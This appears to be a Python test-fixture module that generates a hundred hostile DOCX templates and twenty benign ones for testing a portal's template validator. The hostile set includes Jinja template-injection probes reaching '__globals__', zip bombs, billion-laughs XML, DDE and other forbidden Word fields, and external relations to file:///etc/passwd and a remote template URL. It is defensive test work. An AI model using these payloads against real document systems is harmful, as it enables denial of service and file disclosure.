"""A hundred hostile templates and twenty good ones, made anew each time; nothing of them is executed while they are made."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator, Mapping

from app.documents.templates.paper_fields import PAPER_FIELDS
from app.documents.templates.template_parts import FORBIDDEN_COMMANDS
from app.documents.templates.templates import get_template

CODE = "certificate"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TYPE = "application/vnd.openxmlformats-officedocument."


def parts_of(code: str = CODE) -> dict[str, bytes]:
    """Return the parts of the portal's own template."""
    with zipfile.ZipFile(get_template(code).path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(parts: Mapping[str, bytes]) -> bytes:
    """Return the parts as a DOCX."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return made.getvalue()


def with_line(text: str) -> bytes:
    """Return the own template with a paragraph of this text first."""
    return with_xml(f"<w:p><w:r><w:t>{text.replace('&', '&amp;').replace('<', '&lt;')}</w:t></w:r></w:p>")


def with_xml(xml: str) -> bytes:
    """Return the own template with this XML of Word first."""
    parts = parts_of()
    parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:body>", b"<w:body>" + xml.encode(), 1)
    return zipped(parts)


def with_part(name: str, data: bytes, *, kind: str, relation: str, outside: str = "") -> bytes:
    """Return the own template with one more part of a type, to which a relation of the text leads."""
    parts = parts_of()
    target = f'Target="{outside}" TargetMode="External"' if outside else f'Target="/{name}"'
    led = f'<Relationship Id="rIdNew" Type="{OFFICE}/{relation}" {target}/></Relationships>'.encode()
    relations = "word/_rels/document.xml.rels"
    parts[relations] = parts[relations].replace(b"</Relationships>", led)
    if not outside:
        typed = f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'.encode()
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", typed)
        parts[name] = data
    return zipped(parts)


def field(*pieces: str) -> str:
    """Return a field of Word whose instruction is split over runs."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return f"<w:p>{begin}{runs}{end}</w:p>"


def hostile() -> list[tuple[str, bytes]]:
    """Return a hundred (name, file)."""
    found = [*_slow(), *_expressions(), *_fields(), *_parts(), *_archives()]
    return found[:100]


def _slow() -> Iterator[tuple[str, bytes]]:
    """What holds the processor or fills the memory."""
    texts = {
        "60,000 opened commands": "{% " * 60_000,
        "60,000 opened fields": "{{ " * 60_000,
        "60,000 opened comments": "{# " * 60_000,
        "200,000 braces": "{" * 200_000,
        "chained join": "{{ number" + "|join(number)" * 6 + " }}",
        "deep not, 200": "{{ " + "not " * 200 + "number }}",
        "deep not, 5000": "{{ " + "not " * 5_000 + "number }}",
        "130 nested if": "{% if number %}" * 130 + "x" + "{% endif %}" * 130,
        "400 nested if": "{% if number %}" * 400 + "x" + "{% endif %}" * 400,
        "5000 brackets": "{{ " + "(" * 5_000 + "1" + ")" * 5_000 + " }}",
        "range of a billion": "{% for x in range(10**9) %}x{% endfor %}",
        "power": "{{ 10 ** 10 ** 8 }}",
        "product of texts": "{{ 'A' * 10 ** 10 }}",
        "format of a gigabyte": "{{ '%999999999d' % 1 }}",
        "1600 conditions": "{% if number %}x{% endif %}" * 1600,
        "1400 conditions unclosed": "{% if number %}x" * 1400,
        "deep else": "{% if number %}{% else %}" * 200 + "{% endif %}" * 200,
        "long chain of and": "{{ " + "number and " * 20_000 + "number }}",
        "long chain of ~": "{{ " + "number ~ " * 20_000 + "wrong }}",
        "filters in a row": "{{ number" + "|upper" * 3_000 + " }}",
        "sum in a row": "{{ 1" + " + 1" * 3_000 + " }}",
        "conditional in a row": "{{ " + "1 if number else " * 3_000 + "1 }}",
    }
    yield from ((name, with_line(text)) for name, text in texts.items())


def _expressions() -> Iterator[tuple[str, bytes]]:
    """What reaches beyond the values."""
    for text in (
        "{{ ''.__class__.__mro__ }}", "{{ number.__init__.__globals__ }}", "{{ number['__class__'] }}", "{{ lipsum() }}",
        "{{ cycler.__init__ }}", "{{ self }}", "{% include 'x' %}", "{% import 'x' as y %}", "{% extends 'x' %}",
        "{% macro m() %}x{% endmacro %}", "{% set x = 1 %}", "{% block x %}{% endblock %}", "{{ number|attr('x') }}",
        "{{ number|safe }}", "{{ number is callable }}", "{% for a in number %}x{% endfor %}",
        "{% raw %}x{% endraw %}{{ wrong }}", "{% autoescape false %}x{% endautoescape %}",
    ):  # fmt: skip
        yield text, with_line(text)


def _fields() -> Iterator[tuple[str, bytes]]:
    for word in sorted(FORBIDDEN_COMMANDS):
        yield f"field {word}", with_xml(field(f" {word} c:\\x "))
        yield f"field {word} split by Jinja", with_xml(field(word[:2] + "{# #}" + word[2:] + " c:\\x"))
    yield "link to a file", with_xml(field(' HYPERLINK "file:///etc/passwd" '))
    yield "field in a field", with_xml(field("DDE", "AUTO c:\\x"))


def _parts() -> Iterator[tuple[str, bytes]]:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>'
    yield "svg", with_part("word/media/a.svg", svg, kind="image/svg+xml", relation="image")
    yield "svg called png", with_part("word/media/a.png", svg, kind="image/png", relation="image")
    yield "ole", with_part("word/embeddings/a.bin", b"x", kind=f"{_TYPE}oleObject", relation="oleObject")
    yield "vba", with_part("word/a.bin", b"x", kind="application/vnd.ms-office.vbaProject", relation="vbaProject")
    yield "aFChunk", with_part("afChunk/a.html", b"<p/>", kind="text/html", relation="aFChunk")
    main = f"{_TYPE}wordprocessingml.document.main+xml"
    yield "second main part", with_part("word/b.xml", parts_of()["word/document.xml"], kind=main, relation="header")
    yield "unknown kind", with_part("word/a.xml", b"<x/>", kind="application/x-unheard", relation="styles")
    yield "picture of a file", with_part("", b"", kind="", relation="image", outside="file:///etc/passwd")
    yield "picture of the net", with_part("", b"", kind="", relation="image", outside="http://198.51.100.7/x.png")
    yield (
        "template of the net",
        with_part("", b"", kind="", relation="attachedTemplate", outside="http://198.51.100.7/x"),
    )
    active = "application/vnd.ms-office.activeX+xml"
    yield "activeX", with_part("word/activeX/a.xml", b"<x/>", kind=active, relation="control")
    yield "subdocument", with_part("", b"", kind="", relation="subDocument", outside="file:///etc/passwd")
    yield "chart", with_part("word/charts/c.xml", b"<x/>", kind=f"{_TYPE}drawingml.chart+xml", relation="chart")
    yield "alternative text", with_xml("<w:altChunk/>")
    yield (
        "vml",
        with_xml('<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml"/></w:pict></w:r></w:p>'),
    )
    yield "object", with_xml("<w:p><w:r><w:object/></w:r></w:p>")


def _archives() -> Iterator[tuple[str, bytes]]:
    parts, document = parts_of(), "word/document.xml"
    yield "bomb of zeros", zipped({**parts, document: b"\0" * (30 << 20)})
    yield "bomb of a picture", zipped({**parts, "word/media/big.png": b"\0" * (30 << 20)})
    yield "3000 parts", zipped({**parts, **{f"word/media/{n}.png": b"x" for n in range(3_000)}})
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    dtd = f'<!DOCTYPE w [<!ENTITY a0 "ha">{laughs}]>'.encode()
    yield (
        "billion laughs",
        zipped({**parts, document: parts[document].replace(b"<w:document", dtd + b"<w:document", 1)}),
    )
    yield "deep XML", with_xml("<w:p>" * 5_000 + "</w:p>" * 5_000)
    yield "cut in the middle", zipped(parts)[:-200]


def good() -> list[tuple[str, str, bytes]]:
    """Return twenty (name, code of the paper, file): the own templates, each with a line of its own, some twice."""
    found = []
    for number in range(20):
        code = sorted(PAPER_FIELDS)[number % len(PAPER_FIELDS)]
        parts = parts_of(code)
        line = f"<w:body><w:p><w:r><w:t>Вариант {number}</w:t></w:r></w:p>".encode()
        parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:body>", line, 1)
        found.append((f"{code}, variant {number}", code, zipped(parts)))
    return found
